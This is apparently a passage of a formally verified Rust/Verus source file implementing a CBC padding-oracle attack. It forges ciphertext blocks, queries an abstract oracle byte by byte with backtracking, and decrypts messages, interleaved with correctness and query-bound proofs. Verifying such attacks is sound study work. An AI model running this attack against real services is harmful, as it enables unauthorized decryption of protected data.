//! The decryption engine: byte discovery against a padding oracle, block
//! decryption with backtracking, and whole-message decryption.

use vstd::prelude::*;

use crate::oracle::PaddingOracle;
use crate::pad::{
    cand_count_below, forge_spec, forged_plain, is_candidate, lemma_cand_count_bounds,
    lemma_cand_count_mono, lemma_cand_count_step, lemma_final_guess_accepts,
    lemma_final_plain_shape, lemma_guess_unique, no_false_start, pkcs_valid, reversed, seq_xor,
    suffix_correct, BLOCK_LEN,
};

verus! {

/// Why decryption of a message failed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum AttackError {
    /// The ciphertext's length is not a multiple of the block size, or
    /// there is no block beyond the leading one.
    MalformedCiphertext,
    /// Some block's guess enumeration was exhausted with nothing left to
    /// backtrack into. The index counts block pairs from the front, so
    /// the failing ciphertext block is `block_index + 1`; the position
    /// and guess carry the block-level failure context.
    ByteUnrecoverable { block_index: usize, byte_position: usize, exhausted_from: u8 },
}

/// How one block's decryption failed: the byte position whose guess
/// enumeration was exhausted with nothing left to backtrack into —
/// always the block's final byte, since backtracking had already emptied
/// the discovered stack — and the guess value from which that last
/// enumeration ran to the end of the candidate set.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub struct BlockFailure {
    pub byte_position: usize,
    pub exhausted_from: u8,
}

/// Every discovered byte was accepted by the oracle when it was found:
/// byte `k` (in discovery order) was accepted on top of the `k` bytes
/// found before it.
pub open spec fn chain_accepted<O: PaddingOracle>(
    o: O,
    prev: Seq<u8>,
    target: Seq<u8>,
    disc: Seq<u8>,
) -> bool {
    forall|k: int|
        0 <= k < disc.len() ==> #[trigger] o.accepts(forge_spec(prev, disc.take(k), disc[k]) + target)
}

/// The oracle is reliable and its verdict on every forged pair ending in
/// `target` is the true PKCS validity under the CBC relation: decrypting
/// `target` against the real previous block yields the plaintext `m`, so
/// against a forged block `f` it yields `f XOR prev XOR m`.
pub open spec fn oracle_models<O: PaddingOracle>(
    o: O,
    prev: Seq<u8>,
    target: Seq<u8>,
    m: Seq<u8>,
) -> bool {
    &&& o.reliable()
    &&& prev.len() == BLOCK_LEN
    &&& target.len() == BLOCK_LEN
    &&& m.len() == BLOCK_LEN
    &&& forall|f: Seq<u8>|
        f.len() == BLOCK_LEN ==> #[trigger] o.accepts(f + target) == pkcs_valid(
            seq_xor(seq_xor(f, prev), m),
        )
}

/// A block the search recovers outright: the oracle models it, every
/// plaintext byte lies in the candidate set, and no candidate below the
/// final byte masquerades as valid padding, so no backtracking occurs.
pub open spec fn recoverable<O: PaddingOracle>(
    o: O,
    prev: Seq<u8>,
    target: Seq<u8>,
    m: Seq<u8>,
) -> bool {
    &&& oracle_models(o, prev, target, m)
    &&& forall|i: int| 0 <= i < m.len() ==> is_candidate(#[trigger] m[i])
    &&& no_false_start(m)
}

/// Modelling is a property of the oracle's verdict predicate alone, so it
/// carries across queries, which leave that predicate unchanged.
pub proof fn lemma_recoverable_stable<O: PaddingOracle>(
    o1: O,
    o2: O,
    prev: Seq<u8>,
    target: Seq<u8>,
    m: Seq<u8>,
)
    requires
        o1.reliable() == o2.reliable(),
        forall|c: Seq<u8>| o1.accepts(c) == o2.accepts(c),
        recoverable(o1, prev, target, m),
    ensures
        recoverable(o2, prev, target, m),
{
    assert forall|f: Seq<u8>| f.len() == BLOCK_LEN implies #[trigger] o2.accepts(f + target)
        == pkcs_valid(seq_xor(seq_xor(f, prev), m)) by {
        assert(o1.accepts(f + target) == pkcs_valid(seq_xor(seq_xor(f, prev), m)));
    }
}

proof fn lemma_suffix_agree<O: PaddingOracle>(
    o: O,
    prev: Seq<u8>,
    target: Seq<u8>,
    m1: Seq<u8>,
    m2: Seq<u8>,
    k: int,
)
    requires
        recoverable(o, prev, target, m1),
        recoverable(o, prev, target, m2),
        0 <= k <= BLOCK_LEN,
    ensures
        forall|i: int| BLOCK_LEN - k <= i < BLOCK_LEN ==> m1[i] == m2[i],
    decreases k,
{
    if k > 0 {
        lemma_suffix_agree(o, prev, target, m1, m2, k - 1);
        let j = BLOCK_LEN - k;
        if k == 1 {
            assert(j == BLOCK_LEN - 1);
            let e = Seq::<u8>::empty();
            if m1[j] < m2[j] {
                let g = m1[j];
                assert(is_candidate(g));
                lemma_final_guess_accepts(prev, m1, e, g);
                let f = forge_spec(prev, e, g);
                assert(o.accepts(f + target) == pkcs_valid(seq_xor(seq_xor(f, prev), m1)));
                assert(o.accepts(f + target) == pkcs_valid(seq_xor(seq_xor(f, prev), m2)));
                lemma_final_plain_shape(prev, m2, e, g);
                assert(!pkcs_valid(m2.take(BLOCK_LEN - 1).push(m2[BLOCK_LEN - 1] ^ g ^ 1)));
                assert(false);
            }
            if m2[j] < m1[j] {
                let g = m2[j];
                assert(is_candidate(g));
                lemma_final_guess_accepts(prev, m2, e, g);
                let f = forge_spec(prev, e, g);
                assert(o.accepts(f + target) == pkcs_valid(seq_xor(seq_xor(f, prev), m2)));
                assert(o.accepts(f + target) == pkcs_valid(seq_xor(seq_xor(f, prev), m1)));
                lemma_final_plain_shape(prev, m1, e, g);
                assert(!pkcs_valid(m1.take(BLOCK_LEN - 1).push(m1[BLOCK_LEN - 1] ^ g ^ 1)));
                assert(false);
            }
        } else {
            let disc = Seq::new((k - 1) as nat, |t: int| m1[BLOCK_LEN - 1 - t]);
            assert(suffix_correct(disc, m1));
            assert forall|t: int| 0 <= t < disc.len() implies disc[t] == m2[BLOCK_LEN - 1 - t] by {
                assert(m1[BLOCK_LEN - 1 - t] == m2[BLOCK_LEN - 1 - t]);
            }
            assert(suffix_correct(disc, m2));
            let g = m1[j];
            lemma_guess_unique(prev, m1, disc, g);
            assert(pkcs_valid(forged_plain(prev, m1, disc, g)));
            let f = forge_spec(prev, disc, g);
            assert(o.accepts(f + target) == pkcs_valid(seq_xor(seq_xor(f, prev), m1)));
            assert(o.accepts(f + target) == pkcs_valid(seq_xor(seq_xor(f, prev), m2)));
            lemma_guess_unique(prev, m2, disc, g);
            assert(g == m2[j]);
        }
    }
}

/// The plaintext a recoverable block pair determines is unique: a
/// deterministic oracle that models two plaintexts for the same block
/// pair models one and the same. With `decrypt_block`'s contract this
/// makes recovery deterministic — decrypting twice against the same
/// oracle returns byte-identical plaintext.
pub proof fn lemma_recoverable_unique<O: PaddingOracle>(
    o: O,
    prev: Seq<u8>,
    target: Seq<u8>,
    m1: Seq<u8>,
    m2: Seq<u8>,
)
    requires
        recoverable(o, prev, target, m1),
        recoverable(o, prev, target, m2),
    ensures
        m1 == m2,
{
    lemma_suffix_agree(o, prev, target, m1, m2, BLOCK_LEN as int);
    assert(m1 =~= m2);
}

/// Positional weight of the search word's `level`-th digit.
pub open spec fn word_weight(level: int) -> int
    decreases (if level >= 16 { 0int } else { 16 - level }),
{
    if level >= 16 {
        1
    } else {
        200 * word_weight(level + 1)
    }
}

/// The value of the discovered digits as a positional number.
pub open spec fn path_val(disc: Seq<u8>) -> int
    decreases disc.len(),
{
    if disc.len() == 0 {
        0
    } else {
        path_val(disc.drop_last()) + (disc.last() + 1) * word_weight(disc.len() - 1)
    }
}

/// The search state as a number that grows strictly with every push and
/// every backtrack, bounding the depth-first search.
pub open spec fn search_word_val(disc: Seq<u8>, start: u8) -> int {
    path_val(disc) + (start + 1) * word_weight(disc.len() as int)
}

proof fn lemma_word_weight_pos(level: int)
    ensures
        word_weight(level) >= 1,
    decreases (if level >= 16 { 0int } else { 16 - level }),
{
    if level < 16 {
        lemma_word_weight_pos(level + 1);
    }
}

proof fn lemma_path_val_bound(disc: Seq<u8>)
    requires
        disc.len() <= 16,
        forall|k: int| 0 <= k < disc.len() ==> disc[k] <= 123,
    ensures
        path_val(disc) <= word_weight(-1) - word_weight(disc.len() - 1),
    decreases disc.len(),
{
    if disc.len() == 0 {
    } else {
        lemma_path_val_bound(disc.drop_last());
        lemma_word_weight_pos(disc.len() as int - 1);
        assert(word_weight(disc.len() - 2) == 200 * word_weight(disc.len() - 1));
        assert((disc.last() + 1) * word_weight(disc.len() - 1) <= 124 * word_weight(
            disc.len() - 1,
        )) by (nonlinear_arith)
            requires
                disc.last() <= 123,
                word_weight(disc.len() - 1) >= 1,
        ;
    }
}

/// The whole search state value stays under this cap.
proof fn lemma_search_word_val_bound(disc: Seq<u8>, start: u8)
    requires
        disc.len() <= 16,
        forall|k: int| 0 <= k < disc.len() ==> disc[k] <= 123,
        start <= 123,
    ensures
        0 <= search_word_val(disc, start) < 200 * word_weight(-1),
{
    lemma_path_val_bound(disc);
    lemma_word_weight_pos(disc.len() as int);
    lemma_word_weight_pos(disc.len() as int - 1);
    assert(word_weight(disc.len() - 1) == 200 * word_weight(disc.len() as int));
    assert((start + 1) * word_weight(disc.len() as int) <= 124 * word_weight(disc.len() as int))
        by (nonlinear_arith)
        requires
            start <= 123,
            word_weight(disc.len() as int) >= 1,
    ;
    assert(path_val(disc) >= 0) by {
        lemma_path_val_nonneg(disc);
    }
    assert((start + 1) * word_weight(disc.len() as int) >= 1) by (nonlinear_arith)
        requires
            word_weight(disc.len() as int) >= 1,
    ;
}

proof fn lemma_path_val_nonneg(disc: Seq<u8>)
    ensures
        path_val(disc) >= 0,
    decreases disc.len(),
{
    if disc.len() > 0 {
        lemma_path_val_nonneg(disc.drop_last());
        lemma_word_weight_pos(disc.len() as int - 1);
        assert((disc.last() + 1) * word_weight(disc.len() - 1) >= 0) by (nonlinear_arith)
            requires
                word_weight(disc.len() - 1) >= 1,
        ;
    }
}

/// Pushing a guess `g >= start` strictly grows the search word.
proof fn lemma_word_val_push(disc: Seq<u8>, start: u8, g: u8)
    requires
        disc.len() < 16,
        g >= start,
    ensures
        search_word_val(disc.push(g), 0) > search_word_val(disc, start),
{
    let d2 = disc.push(g);
    assert(d2.drop_last() =~= disc);
    assert(d2.last() == g);
    assert(path_val(d2) == path_val(disc) + (g + 1) * word_weight(disc.len() as int));
    lemma_word_weight_pos(disc.len() as int);
    lemma_word_weight_pos(disc.len() as int + 1);
    assert(word_weight(disc.len() as int) == 200 * word_weight(disc.len() as int + 1));
    assert((g + 1) * word_weight(disc.len() as int) + 1 * word_weight(disc.len() as int + 1) > (
    start + 1) * word_weight(disc.len() as int)) by (nonlinear_arith)
        requires
            g >= start,
            word_weight(disc.len() as int) >= 1,
            word_weight(disc.len() as int + 1) >= 1,
    ;
}

/// Backtracking into the last digit strictly grows the search word.
proof fn lemma_word_val_pop(disc: Seq<u8>, start: u8)
    requires
        0 < disc.len() <= 16,
        disc.last() <= 122,
        start <= 123,
    ensures
        search_word_val(disc.drop_last(), (disc.last() + 1) as u8) > search_word_val(disc, start),
{
    let d = disc.drop_last();
    let t = disc.last();
    assert(path_val(disc) == path_val(d) + (t + 1) * word_weight(disc.len() - 1));
    lemma_word_weight_pos(disc.len() as int);
    assert(word_weight(disc.len() - 1) == 200 * word_weight(disc.len() as int));
    assert((t + 1 + 1) * word_weight(disc.len() - 1) > (t + 1) * word_weight(disc.len() - 1) + (
    start + 1) * word_weight(disc.len() as int)) by (nonlinear_arith)
        requires
            start <= 123,
            word_weight(disc.len() - 1) == 200 * word_weight(disc.len() as int),
            word_weight(disc.len() as int) >= 1,
    ;
}

/// One byte-discovery pass: forge the previous block for each candidate
/// guess at the next undiscovered position, in increasing order starting
/// at `start_guess`, and return the first guess the oracle accepts, if
/// any. Issues one query per candidate tried.
pub fn discover_next_byte<O: PaddingOracle>(
    oracle: &mut O,
    prev_blk: &Vec<u8>,
    blk: &Vec<u8>,
    discovered: &Vec<u8>,
    start_guess: u8,
) -> (r: Option<u8>)
    requires
        prev_blk@.len() == BLOCK_LEN,
        blk@.len() == BLOCK_LEN,
        discovered@.len() < BLOCK_LEN,
    ensures
        final(oracle).reliable() == old(oracle).reliable(),
        forall|c: Seq<u8>| final(oracle).accepts(c) == old(oracle).accepts(c),
        old(oracle).queries() <= final(oracle).queries() <= old(oracle).queries() + 69,
        r matches Some(g) ==> is_candidate(g) && g >= start_guess,
        old(oracle).reliable() ==> match r {
            Some(g) => old(oracle).accepts(forge_spec(prev_blk@, discovered@, g) + blk@) && (
            forall|h: u8|
                #[trigger] is_candidate(h) && start_guess <= h < g ==> !old(oracle).accepts(
                    forge_spec(prev_blk@, discovered@, h) + blk@,
                )),
            None => forall|h: u8|
                #[trigger] is_candidate(h) && h >= start_guess ==> !old(oracle).accepts(
                    forge_spec(prev_blk@, discovered@, h) + blk@,
                ),
        },
{
    let k = discovered.len();
    let j = BLOCK_LEN - k - 1;
    let pad = (k as u8) + 1;
    let mut forged: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < BLOCK_LEN
        invariant
            prev_blk@.len() == BLOCK_LEN,
            discovered@.len() == k,
            k < BLOCK_LEN,
            j == BLOCK_LEN - k - 1,
            pad == (k + 1) as u8,
            i <= BLOCK_LEN,
            forged@.len() == i,
            forall|t: int|
                0 <= t < i && t != j ==> forged@[t] == forge_spec(prev_blk@, discovered@, 0)[t],
        decreases BLOCK_LEN - i,
    {
        let v = if i > j {
            prev_blk[i] ^ discovered[BLOCK_LEN - 1 - i] ^ pad
        } else {
            prev_blk[i]
        };
        forged.push(v);
        i = i + 1;
    }
    let mut t: usize = 0;
    while t < BLOCK_LEN
        invariant
            prev_blk@.len() == BLOCK_LEN,
            blk@.len() == BLOCK_LEN,
            discovered@.len() == k,
            k < BLOCK_LEN,
            j == BLOCK_LEN - k - 1,
            pad == (k + 1) as u8,
            t <= BLOCK_LEN,
            forged@.len() == BLOCK_LEN + t,
            forall|u: int|
                0 <= u < BLOCK_LEN && u != j ==> forged@[u] == forge_spec(
                    prev_blk@,
                    discovered@,
                    0,
                )[u],
            forall|u: int| BLOCK_LEN <= u < BLOCK_LEN + t ==> forged@[u] == blk@[u - BLOCK_LEN],
        decreases BLOCK_LEN - t,
    {
        forged.push(blk[t]);
        t = t + 1;
    }
    let mut guess: u8 = start_guess;
    loop
        invariant
            prev_blk@.len() == BLOCK_LEN,
            blk@.len() == BLOCK_LEN,
            discovered@.len() == k,
            k < BLOCK_LEN,
            j == BLOCK_LEN - k - 1,
            pad == (k + 1) as u8,
            forged@.len() == 2 * BLOCK_LEN,
            forall|u: int|
                0 <= u < BLOCK_LEN && u != j ==> forged@[u] == forge_spec(
                    prev_blk@,
                    discovered@,
                    0,
                )[u],
            forall|u: int| BLOCK_LEN <= u < 2 * BLOCK_LEN ==> forged@[u] == blk@[u - BLOCK_LEN],
            start_guess <= guess,
            oracle.reliable() == old(oracle).reliable(),
            forall|c: Seq<u8>| oracle.accepts(c) == old(oracle).accepts(c),
            old(oracle).queries() <= oracle.queries(),
            oracle.queries() <= old(oracle).queries() + cand_count_below(guess as int)
                - cand_count_below(start_guess as int),
            old(oracle).reliable() ==> forall|h: u8|
                #[trigger] is_candidate(h) && start_guess <= h < guess ==> !old(oracle).accepts(
                    forge_spec(prev_blk@, discovered@, h) + blk@,
                ),
        decreases 256 - guess,
    {
        proof {
            lemma_cand_count_mono(start_guess as int, guess as int);
            lemma_cand_count_bounds(guess as int);
            lemma_cand_count_bounds(start_guess as int);
        }
        match crate::pad::first_candidate_from(guess) {
            None => {
                return None;
            },
            Some(g) => {
                let v = prev_blk[j] ^ g ^ pad;
                forged.set(j, v);
                proof {
                    assert(forged@ =~= forge_spec(prev_blk@, discovered@, g) + blk@);
                    lemma_cand_count_mono(guess as int, g as int);
                    lemma_cand_count_step(g);
                }
                let accepted = oracle.query(&forged);
                if accepted {
                    return Some(g);
                }
                guess = g + 1;
            },
        }
    }
}

/// Recovers the plaintext of the ciphertext block `blk` given its
/// preceding block, by byte discovery with backtracking: a position whose
/// guess enumeration is exhausted pops the most recently discovered byte
/// and resumes that position's enumeration one past the popped value.
/// An error means the enumeration was exhausted with nothing left to
/// backtrack into, and carries the failing position with the guess value
/// its final enumeration resumed from.
///
/// On every recoverable block (see `recoverable`) the search needs no
/// backtracking: it returns exactly the block's plaintext and issues at
/// most 69 queries per byte position — 69 being the number of candidate
/// guess values.
pub fn decrypt_block<O: PaddingOracle>(oracle: &mut O, prev_blk: &Vec<u8>, blk: &Vec<u8>) -> (r:
    Result<Vec<u8>, BlockFailure>)
    requires
        prev_blk@.len() == BLOCK_LEN,
        blk@.len() == BLOCK_LEN,
    ensures
        final(oracle).reliable() == old(oracle).reliable(),
        forall|c: Seq<u8>| final(oracle).accepts(c) == old(oracle).accepts(c),
        old(oracle).queries() <= final(oracle).queries(),
        r matches Ok(pt) ==> pt@.len() == BLOCK_LEN && (forall|i: int|
            0 <= i < pt@.len() ==> is_candidate(#[trigger] pt@[i])),
        old(oracle).reliable() ==> (r matches Ok(pt) ==> chain_accepted(
            *old(oracle),
            prev_blk@,
            blk@,
            reversed(pt@),
        )),
        r matches Err(e) ==> e.byte_position == BLOCK_LEN - 1,
        old(oracle).reliable() ==> (r matches Err(e) ==> forall|g2: u8|
            #[trigger] is_candidate(g2) && g2 >= e.exhausted_from ==> !old(oracle).accepts(
                forge_spec(prev_blk@, Seq::<u8>::empty(), g2) + blk@,
            )),
        forall|m: Seq<u8>|
            #[trigger] recoverable(*old(oracle), prev_blk@, blk@, m) ==> (r matches Ok(pt)
                && pt@ == m && final(oracle).queries() <= old(oracle).queries() + 69 * (
            BLOCK_LEN as int)),
{
    let mut disc: Vec<u8> = Vec::new();
    let mut start_guess: u8 = 0;
    loop
        invariant
            prev_blk@.len() == BLOCK_LEN,
            blk@.len() == BLOCK_LEN,
            disc@.len() < BLOCK_LEN,
            start_guess <= 123,
            forall|t: int| 0 <= t < disc@.len() ==> is_candidate(#[trigger] disc@[t]),
            oracle.reliable() == old(oracle).reliable(),
            forall|c: Seq<u8>| oracle.accepts(c) == old(oracle).accepts(c),
            old(oracle).queries() <= oracle.queries(),
            old(oracle).reliable() ==> chain_accepted(*old(oracle), prev_blk@, blk@, disc@),
            forall|m: Seq<u8>|
                #[trigger] recoverable(*old(oracle), prev_blk@, blk@, m) ==> (suffix_correct(
                    disc@,
                    m,
                ) && start_guess == 0 && oracle.queries() <= old(oracle).queries() + 69
                    * disc@.len()),
        decreases 200 * word_weight(-1) - search_word_val(disc@, start_guess),
    {
        let ghost d0 = disc@;
        let ghost s0 = start_guess;
        let ghost o1 = *oracle;
        proof {
            assert forall|t: int| 0 <= t < d0.len() implies d0[t] <= 123 by {
                assert(is_candidate(d0[t]));
            }
            lemma_search_word_val_bound(d0, s0);
        }
        let r = discover_next_byte(oracle, prev_blk, blk, &disc, start_guess);
        match r {
            Some(g) => {
                proof {
                    let j = BLOCK_LEN - d0.len() - 1;
                    assert forall|m: Seq<u8>|
                        #[trigger] recoverable(*old(oracle), prev_blk@, blk@, m) implies g
                        == m[j] by {
                        assert(suffix_correct(d0, m) && s0 == 0);
                        let f = forge_spec(prev_blk@, d0, g);
                        assert(o1.accepts(f + blk@) == old(oracle).accepts(f + blk@));
                        assert(old(oracle).accepts(f + blk@) == pkcs_valid(
                            seq_xor(seq_xor(f, prev_blk@), m),
                        ));
                        assert(pkcs_valid(forged_plain(prev_blk@, m, d0, g)));
                        if d0.len() >= 1 {
                            lemma_guess_unique(prev_blk@, m, d0, g);
                        } else {
                            lemma_final_plain_shape(prev_blk@, m, d0, g);
                            if g < m[BLOCK_LEN - 1] {
                                assert(is_candidate(g));
                                assert(false);
                            }
                            if g > m[BLOCK_LEN - 1] {
                                let h = m[BLOCK_LEN - 1];
                                assert(is_candidate(h));
                                lemma_final_guess_accepts(prev_blk@, m, d0, h);
                                let fh = forge_spec(prev_blk@, d0, h);
                                assert(o1.accepts(fh + blk@) == old(oracle).accepts(fh + blk@));
                                assert(old(oracle).accepts(fh + blk@) == pkcs_valid(
                                    seq_xor(seq_xor(fh, prev_blk@), m),
                                ));
                                assert(false);
                            }
                        }
                    }
                }
                disc.push(g);
                start_guess = 0;
                proof {
                    assert(disc@ == d0.push(g));
                    if old(oracle).reliable() {
                        assert forall|k: int| 0 <= k < disc@.len() implies #[trigger] old(
                            oracle,
                        ).accepts(forge_spec(prev_blk@, disc@.take(k), disc@[k]) + blk@) by {
                            if k < d0.len() {
                                assert(disc@.take(k) =~= d0.take(k));
                            } else {
                                assert(disc@.take(k) =~= d0);
                                assert(o1.accepts(forge_spec(prev_blk@, d0, g) + blk@) == old(
                                    oracle,
                                ).accepts(forge_spec(prev_blk@, d0, g) + blk@));
                            }
                        }
                    }
                    lemma_word_val_push(d0, s0, g);
                    assert forall|t: int| 0 <= t < disc@.len() implies disc@[t] <= 123 by {
                        assert(is_candidate(disc@[t]));
                    }
                    lemma_search_word_val_bound(disc@, 0);
                }
                if disc.len() == BLOCK_LEN {
                    let mut out: Vec<u8> = Vec::new();
                    let mut i: usize = 0;
                    while i < BLOCK_LEN
                        invariant
                            disc@.len() == BLOCK_LEN,
                            i <= BLOCK_LEN,
                            out@.len() == i,
                            forall|t: int| 0 <= t < i ==> out@[t] == disc@[BLOCK_LEN - 1 - t],
                        decreases BLOCK_LEN - i,
                    {
                        out.push(disc[BLOCK_LEN - 1 - i]);
                        i = i + 1;
                    }
                    proof {
                        assert(reversed(out@) =~= disc@);
                        assert forall|i: int| 0 <= i < out@.len() implies is_candidate(
                            #[trigger] out@[i],
                        ) by {
                            assert(out@[i] == disc@[BLOCK_LEN - 1 - i]);
                            assert(is_candidate(disc@[BLOCK_LEN - 1 - i]));
                        }
                        assert forall|m: Seq<u8>|
                            #[trigger] recoverable(*old(oracle), prev_blk@, blk@, m) implies out@
                            == m by {
                            assert(suffix_correct(disc@, m));
                            assert forall|t: int| 0 <= t < BLOCK_LEN implies out@[t] == m[t] by {
                                assert(disc@[BLOCK_LEN - 1 - t] == m[t]);
                            }
                            assert(out@ =~= m);
                        }
                    }
                    return Ok(out);
                }
            },
            None => {
                proof {
                    let j = BLOCK_LEN - d0.len() - 1;
                    assert forall|m: Seq<u8>|
                        !(#[trigger] recoverable(*old(oracle), prev_blk@, blk@, m)) by {
                        if recoverable(*old(oracle), prev_blk@, blk@, m) {
                            assert(suffix_correct(d0, m) && s0 == 0);
                            let h = m[j];
                            assert(is_candidate(h));
                            if d0.len() >= 1 {
                                lemma_guess_unique(prev_blk@, m, d0, h);
                            } else {
                                lemma_final_guess_accepts(prev_blk@, m, d0, h);
                            }
                            assert(pkcs_valid(forged_plain(prev_blk@, m, d0, h)));
                            let fh = forge_spec(prev_blk@, d0, h);
                            assert(o1.accepts(fh + blk@) == old(oracle).accepts(fh + blk@));
                            assert(old(oracle).accepts(fh + blk@) == pkcs_valid(
                                seq_xor(seq_xor(fh, prev_blk@), m),
                            ));
                            assert(false);
                        }
                    }
                }
                let popped = disc.pop();
                match popped {
                    None => {
                        proof {
                            assert(d0.len() == 0);
                            assert(d0 =~= Seq::<u8>::empty());
                            if old(oracle).reliable() {
                                assert forall|g2: u8|
                                    #[trigger] is_candidate(g2) && g2 >= s0 implies !old(
                                    oracle,
                                ).accepts(
                                    forge_spec(prev_blk@, Seq::<u8>::empty(), g2) + blk@,
                                ) by {
                                    assert(o1.accepts(forge_spec(prev_blk@, d0, g2) + blk@)
                                        == old(oracle).accepts(
                                        forge_spec(prev_blk@, d0, g2) + blk@,
                                    ));
                                }
                            }
                        }
                        return Err(
                            BlockFailure {
                                byte_position: BLOCK_LEN - 1,
                                exhausted_from: start_guess,
                            },
                        );
                    },
                    Some(t) => {
                        proof {
                            assert(is_candidate(d0.last()));
                            assert(d0.last() <= 122);
                            lemma_word_val_pop(d0, s0);
                            assert(disc@ == d0.drop_last());
                            if old(oracle).reliable() {
                                assert forall|k: int| 0 <= k < disc@.len() implies #[trigger] old(
                                    oracle,
                                ).accepts(
                                    forge_spec(prev_blk@, disc@.take(k), disc@[k]) + blk@,
                                ) by {
                                    assert(disc@.take(k) =~= d0.take(k));
                                    assert(disc@[k] == d0[k]);
                                }
                            }
                            assert forall|t2: int| 0 <= t2 < disc@.len() implies disc@[t2]
                                <= 123 by {
                                assert(is_candidate(disc@[t2]));
                            }
                            lemma_search_word_val_bound(disc@, (t + 1) as u8);
                        }
                        start_guess = t + 1;
                    },
                }
            },
        }
    }
}

/// The ciphertext's length is not a positive multiple of the block size
/// with at least one block beyond the leading one.
pub open spec fn malformed(ct: Seq<u8>) -> bool {
    (ct.len() as int) % (BLOCK_LEN as int) != 0 || ct.len() < 2 * BLOCK_LEN
}

/// The number of whole blocks in a ciphertext.
pub open spec fn num_blocks(ct: Seq<u8>) -> int {
    (ct.len() as int) / (BLOCK_LEN as int)
}

/// The `b`-th block of a ciphertext.
pub open spec fn block_of(ct: Seq<u8>, b: int) -> Seq<u8> {
    ct.subrange(b * (BLOCK_LEN as int), (b + 1) * (BLOCK_LEN as int))
}

/// Every adjacent block pair of `ct` is recoverable toward the matching
/// block of the plaintext `m`.
pub open spec fn msg_recoverable<O: PaddingOracle>(o: O, ct: Seq<u8>, m: Seq<u8>) -> bool {
    &&& !malformed(ct)
    &&& m.len() == ct.len() - BLOCK_LEN
    &&& forall|b: int|
        0 <= b < num_blocks(ct) - 1 ==> recoverable(
            o,
            #[trigger] block_of(ct, b),
            block_of(ct, b + 1),
            m.subrange(b * (BLOCK_LEN as int), (b + 1) * (BLOCK_LEN as int)),
        )
}

/// The plaintext a recoverable message determines is unique: with
/// `decrypt`'s contract, decrypting the same ciphertext twice against a
/// deterministic modelling oracle yields byte-identical plaintext.
pub proof fn lemma_message_unique<O: PaddingOracle>(o: O, ct: Seq<u8>, m1: Seq<u8>, m2: Seq<u8>)
    requires
        msg_recoverable(o, ct, m1),
        msg_recoverable(o, ct, m2),
    ensures
        m1 == m2,
{
    let nb = num_blocks(ct);
    assert forall|i: int| 0 <= i < m1.len() implies m1[i] == m2[i] by {
        let b = i / (BLOCK_LEN as int);
        assert((BLOCK_LEN as int) * b <= i < (BLOCK_LEN as int) * (b + 1)) by (nonlinear_arith)
            requires
                b == i / (BLOCK_LEN as int),
                i >= 0,
                BLOCK_LEN == 16,
        ;
        assert(m1.len() == ct.len() - BLOCK_LEN);
        assert(nb * (BLOCK_LEN as int) == ct.len());
        assert(b < nb - 1) by (nonlinear_arith)
            requires
                (BLOCK_LEN as int) * b <= i,
                i < (nb - 1) * (BLOCK_LEN as int),
                BLOCK_LEN == 16,
        ;
        let mb1 = m1.subrange(b * (BLOCK_LEN as int), (b + 1) * (BLOCK_LEN as int));
        let mb2 = m2.subrange(b * (BLOCK_LEN as int), (b + 1) * (BLOCK_LEN as int));
        assert(recoverable(o, block_of(ct, b), block_of(ct, b + 1), mb1));
        assert(recoverable(o, block_of(ct, b), block_of(ct, b + 1), mb2));
        lemma_recoverable_unique(o, block_of(ct, b), block_of(ct, b + 1), mb1, mb2);
        assert(m1[i] == mb1[i - b * (BLOCK_LEN as int)]);
        assert(m2[i] == mb2[i - b * (BLOCK_LEN as int)]);
    }
    assert(m1 =~= m2);
}

/// Copies the `b`-th block of `ct`.
fn copy_block(ct: &Vec<u8>, b: usize) -> (r: Vec<u8>)
    requires
        (b + 1) * BLOCK_LEN <= ct@.len(),
    ensures
        r@ == block_of(ct@, b as int),
        r@.len() == BLOCK_LEN,
{
    let total = ct.len();
    let mut r: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < BLOCK_LEN
        invariant
            (b + 1) * BLOCK_LEN <= ct@.len(),
            ct@.len() == total,
            i <= BLOCK_LEN,
            r@.len() == i,
            forall|t: int| 0 <= t < i ==> r@[t] == ct@[b * BLOCK_LEN + t],
        decreases BLOCK_LEN - i,
    {
        proof {
            assert((b + 1) * BLOCK_LEN == b * BLOCK_LEN + BLOCK_LEN) by (nonlinear_arith);
        }
        r.push(ct[b * BLOCK_LEN + i]);
        i = i + 1;
    }
    proof {
        assert(r@ =~= block_of(ct@, b as int));
    }
    r
}

/// Splits the ciphertext into blocks, decrypts every block after the
/// leading one against its predecessor, and concatenates the recovered
/// plaintext blocks in order. A malformed ciphertext is rejected before
/// any oracle query is issued; the first unrecoverable block aborts the
/// whole message.
pub fn decrypt<O: PaddingOracle>(oracle: &mut O, ct: &Vec<u8>) -> (r: Result<
    Vec<u8>,
    AttackError,
>)
    ensures
        final(oracle).reliable() == old(oracle).reliable(),
        forall|c: Seq<u8>| final(oracle).accepts(c) == old(oracle).accepts(c),
        old(oracle).queries() <= final(oracle).queries(),
        (r matches Err(e) && e == AttackError::MalformedCiphertext) <==> malformed(ct@),
        malformed(ct@) ==> final(oracle).queries() == old(oracle).queries(),
        r matches Ok(pt) ==> pt@.len() == ct@.len() - BLOCK_LEN,
        old(oracle).reliable() ==> (r matches Ok(pt) ==> forall|bb: int|
            0 <= bb < num_blocks(ct@) - 1 ==> chain_accepted(
                *old(oracle),
                #[trigger] block_of(ct@, bb),
                block_of(ct@, bb + 1),
                reversed(pt@.subrange(bb * (BLOCK_LEN as int), (bb + 1) * (BLOCK_LEN as int))),
            )),
        r matches Err(AttackError::ByteUnrecoverable {
            block_index: bi,
            byte_position: bp,
            exhausted_from: ef,
        }) ==> (bi as int) < num_blocks(ct@) - 1 && bp == BLOCK_LEN - 1 && (forall|m: Seq<u8>|
            !(#[trigger] recoverable(
                *old(oracle),
                block_of(ct@, bi as int),
                block_of(ct@, bi as int + 1),
                m,
            ))),
        old(oracle).reliable() ==> (r matches Err(AttackError::ByteUnrecoverable {
            block_index: bi,
            byte_position: bp2,
            exhausted_from: ef,
        }) ==> forall|g2: u8|
            #[trigger] is_candidate(g2) && g2 >= ef ==> !old(oracle).accepts(
                forge_spec(block_of(ct@, bi as int), Seq::<u8>::empty(), g2) + block_of(
                    ct@,
                    bi as int + 1,
                ),
            )),
        forall|m: Seq<u8>|
            #[trigger] msg_recoverable(*old(oracle), ct@, m) ==> (r matches Ok(pt) && pt@ == m
                && final(oracle).queries() <= old(oracle).queries() + (num_blocks(ct@) - 1) * (69
                * (BLOCK_LEN as int))),
{
    let n = ct.len();
